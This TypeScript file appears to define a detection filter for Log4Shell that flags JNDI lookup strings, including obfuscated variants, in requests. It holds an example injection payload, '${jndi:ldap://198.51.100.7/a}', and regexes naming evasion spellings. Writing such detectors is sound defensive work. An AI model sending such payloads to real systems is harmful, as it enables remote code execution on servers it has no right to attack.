import { pattern, type Filter } from "../filter.ts";
import { EVERYWHERE } from "../places.ts";

export const javaLookup: Filter = {
  id: 100_802,
  name: "java-lookup",
  message: "A value would be looked up when it is logged (Log4Shell)",
  attackClass: "code-execution",
  score: 5,
  catches:
    "${jndi:...} in all its spellings, and the other look-ups that Log4j expands: values of the environment, of the system, letters changed in case. It counts in every place, since everything is logged.",
  letsPass: "Placeholders without such a look-up: ${name}, ${user.id}.",
  example: "${jndi:ldap://198.51.100.7/a}",
  places: [...EVERYWHERE, "target", "part"],
  checks: [
    pattern(
      "plain",
      `\\$\\s*\\{\\s*j\\s*n\\s*d\\s*i\\s*[:$]|\\bjndi\\s*:\\s*(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?)\\s*:`,
      { inText: "counts" },
    ),
    pattern(
      "plain",
      `\\$\\s*\\{[^{}]*\\$\\s*\\{[^{}]*[:-]|\\$\\s*\\{\\s*(?:::?-|:-|(?:lower|upper|env|sys|java|date|main|ctx|base64|k8s|docker|spring|bundle|log4j|marker|map|sd|web|event|jvmrunargs|hostname|script|url|urldecoder|dns|const|xml|file|properties|localhost|resourcebundle)\\s*:)`,
      { inText: "counts" },
    ),
    pattern("plain", `\\$\\s*\\{\\s*\\$|\\$\\$\\{\\w+:|\\$\\s*\\{[^}]*\\b(?:j\\}|\\{j)`, {
      inText: "counts",
      places: ["argument", "name", "cookie", "cookie-name", "body", "header", "user-agent", "referer"],
    }),
  ],
};
